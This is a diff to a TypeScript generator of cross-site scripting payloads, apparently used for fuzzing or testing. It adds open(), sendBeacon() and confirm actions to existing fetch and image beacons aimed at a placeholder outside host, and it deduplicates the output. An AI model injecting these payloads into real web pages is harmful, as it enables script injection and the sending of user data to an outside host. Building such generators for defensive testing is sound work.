@@ -16,6 +16,9 @@ const ACTIONS = [
   `location='${ELSEWHERE}'`,
   `fetch('${ELSEWHERE}')`,
   `new Image().src='${ELSEWHERE}'`,
+  'confirm`1`',
+  `open('${ELSEWHERE}')`,
+  `navigator.sendBeacon('${ELSEWHERE}')`,
 ];
 
 const ENDS = [
@@ -74,9 +77,11 @@ const VECTORS: ((action: string) => string)[] = [
 
 /** Payloads, each another: ends of what they may stand in, before what could run or ask. */
 export function payloads(count: number): string[] {
-  const all = ENDS.flatMap((end) =>
+  const every = ENDS.flatMap((end) =>
     ACTIONS.flatMap((a) => VECTORS.map((vector) => end + vector(a))),
   );
+  // Those that do nothing of the script's are the same for each.
+  const all = [...new Set(every)];
   // One after another of all kinds.
   return Array.from({ length: count }, (_, at) => all[(at * 613) % all.length] ?? '');
 }
